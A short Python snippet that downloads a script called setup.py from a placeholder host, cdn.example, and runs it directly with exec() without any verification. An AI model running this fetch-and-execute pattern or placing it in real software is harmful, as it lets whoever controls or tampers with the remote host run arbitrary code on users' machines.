from urllib.request import urlopen

code = urlopen("https://cdn.example/setup.py").read()
exec(code)
